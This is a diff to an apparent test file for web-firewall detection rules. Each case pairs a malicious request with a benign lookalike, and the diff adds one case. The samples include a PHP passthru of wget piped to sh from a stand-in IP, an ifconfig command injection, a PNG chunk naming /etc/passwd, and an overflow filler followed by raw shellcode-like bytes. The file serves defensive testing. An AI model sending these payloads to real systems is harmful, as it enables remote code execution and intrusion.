@@ -47,6 +47,7 @@ const CASES: RuleCase[] = [
   [9001667, 'block', 'passthru:ifconfig as a column spec', get('/wp-admin/admin-ajax.php?action=upg_datatable&field=field%3Apassthru:ifconfig:NULL:NULL'), post('/admin/monitoring/checks', 'name=web&check=http%3Aexec%3Acurl+-fsS+http%3A%2F%2Flocalhost%3A8080%2Fhealth&interval=30s&tags=exec%3Ahostname')],
   [9000470, 'block', 'a PNG tEXt chunk profile naming /etc/passwd', upload('a.png', 'image/png', `${PNG}\x00\x00\x00\x13tEXtprofile\x00/etc/passwd\x12\x34\x56\x78\x00\x00\x00\x00IEND\xaeB\x60\x82`), upload('a.png', 'image/png', `${PNG}\x00\x00\x00\x20zTXtRaw profile type exif\x00\x00x\x9c\x00\x00\x00\x10tEXtComment\x00profile pic\x00\x00\x00\x00IEND\xaeB\x60\x82`)],
   [9001668, 'block', 'passthru of wget piped to sh', post('/admin/ajax.php', "code=%3C%3Fphp+passthru('wget+-q+-O-+http%3A%2F%2F198.51.100.7%2Fa%7Csh')%3B+%3F%3E"), json('{"body":"Install it with curl -fsSL https://get.docker.com | sh, then in PHP call shell_exec(\'docker ps\') from the worker."}')],
+  [9001266, 'block', 'overflow filler then raw bytes in a query value', get(`/gwtest/formssso?event=start&target=${'B'.repeat(300)}%e8%0f%c3%90%90%90%31%c0%50%68`), get(`/api/thumb?data=${'A'.repeat(120)}%2BAA%3D%3D&name=caf%C3%A9%20cr%C3%A8me`)],
 ];
 
 describe("bundled rules for held-out-18's exploit mechanisms (rev 2026-12-09p)", () => {
